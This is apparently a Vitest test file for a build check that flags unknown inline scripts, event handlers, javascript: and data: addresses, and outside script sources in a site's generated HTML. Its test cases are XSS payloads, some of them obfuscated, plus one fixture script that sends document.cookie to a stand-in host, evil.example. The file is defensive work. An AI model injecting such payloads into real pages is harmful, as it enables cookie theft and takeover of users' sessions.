import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, describe, it, onTestFinished } from 'vitest';
import { knownInlineScripts, scriptFaults } from './inline-scripts.ts';
import { writeBuiltIndex } from './write-built-index.ts';

/** echo -n 'alert(1)' | openssl dgst -sha256 -binary | base64 */
const alertSource = "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='";

const page = (body: string) =>
  `<!doctype html><html><head><title>x</title></head><body>${body}</body></html>`;

describe('scriptFaults', () => {
  it.each([
    ['a script of our own files', '<script type="module" src="/_astro/a.js"></script>'],
    ['a script of ours with other attributes', '<script defer src="/_astro/a.js"></script>'],
    ['data', '<script type="application/ld+json">{"@type":"Product"}</script>'],
    ['a text about scripts', '<p>onclick=1 javascript:alert(1) &lt;script&gt;</p>'],
    ['harmless addresses', '<a href="/a">a</a><a href="tel:+84">b</a><img src="https://x.vn/a.jpg">'],
    ['a picture in the page', '<img src="data:image/png;base64,AAAA">'],
    ['a relative address', '<a href="b">b</a><a href=c>c</a>'],
  ])('finds nothing in %s', (_case, body) => expect(scriptFaults(page(body), new Set())).toEqual([]));

  it('finds nothing in a known inline script, which is known by its hash', () => {
    const body = page('<script>alert(1)</script>');
    expect(scriptFaults(body, new Set([alertSource]))).toEqual([]);
    expect(scriptFaults(body, new Set())).toEqual(['inline script "alert(1)"']);
  });

  it.each([
    ['<script>alert(1)</script>', /^inline script "alert\(1\)"/],
    ['<SCRIPT type="text/javascript">alert(1)</SCRIPT>', /^inline script/],
    ['<script type="module">alert(1)</script>', /^inline script/],
    ['<script type="importmap">{"imports":{}}</script>', /^inline script/],
    ['<script src="//evil.example/a.js"></script>', /^script from elsewhere/],
    ['<script src="https://evil.example/a.js"></script>', /^script from elsewhere/],
    ['<svg><script>alert(1)</script></svg>', /^inline script/],
    ['<template><script>alert(1)</script></template>', /^inline script/],
    ['<img src="/a.png" onerror="alert(1)">', /^event handler onError="alert\(1\)" of <img>/],
    ['<img src=x onerror=alert(1)>', /^event handler/],
    ['<svg/onload=alert(1)>', /^event handler/],
    ['<p title=">" ONCLICK=\'alert(1)\'>', /^event handler/],
    ['<a href="javascript:alert(1)">x</a>', /^address href="javascript:alert\(1\)" of <a>/],
    ['<a href="&#106;ava&#10;script&colon;alert(1)">x</a>', /^address/],
    ["<a href=' javascript:alert(1)'>x</a>", /^address/],
    ['<a href=vbscript:x>x</a>', /^address/],
    ['<svg><a xlink:href="javascript:alert(1)"></a></svg>', /^address/],
    ['<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate></a></svg>', /^address/],
    ['<form action="javascript:alert(1)"></form>', /^address/],
    ['<button formaction="javascript:alert(1)">x</button>', /^address/],
    ['<a href="data:text/html,x">x</a>', /^address/],
    ['<iframe src="data:text/html,x"></iframe>', /^address/],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', /^page inside a page/],
  ])('finds %s', (body, fault) => {
    expect(scriptFaults(page(body), new Set())[0]).toMatch(fault);
  });
});

describe('a build', () => {
  async function built(files: Record<string, string>) {
    const distDir = await mkdtemp(path.join(tmpdir(), 'script-test-'));
    onTestFinished(() => rm(distDir, { recursive: true }));
    for (const [name, content] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(distDir, 'client', name)), { recursive: true });
      await writeFile(path.join(distDir, 'client', name), content);
    }
    return writeBuiltIndex(distDir);
  }

  it('fails at a script it does not know, with file and excerpt', async () => {
    const building = built({
      'index.html': page('<p>fine</p>'),
      'tin-tuc/tin.html': page('<p>x</p><script>fetch("//evil.example?"+document.cookie)</script>'),
    });
    await expect(building).rejects.toThrow(/tin-tuc\/tin\.html: inline script "fetch\("\/\/evil\.example/);
    await expect(building).rejects.toThrow(/take it out/);
  });

  it('allows the scripts of the installed Astro, and nothing it reads in a page', async () => {
    const { inlineScripts } = await built({ 'index.html': page('<p>fine</p>') });
    expect(inlineScripts).toEqual((await knownInlineScripts()).sort());
    expect(inlineScripts).toHaveLength(6);
    for (const source of inlineScripts) expect(source).toMatch(/^'sha256-[A-Za-z0-9+/]{43}='$/);
  });
});
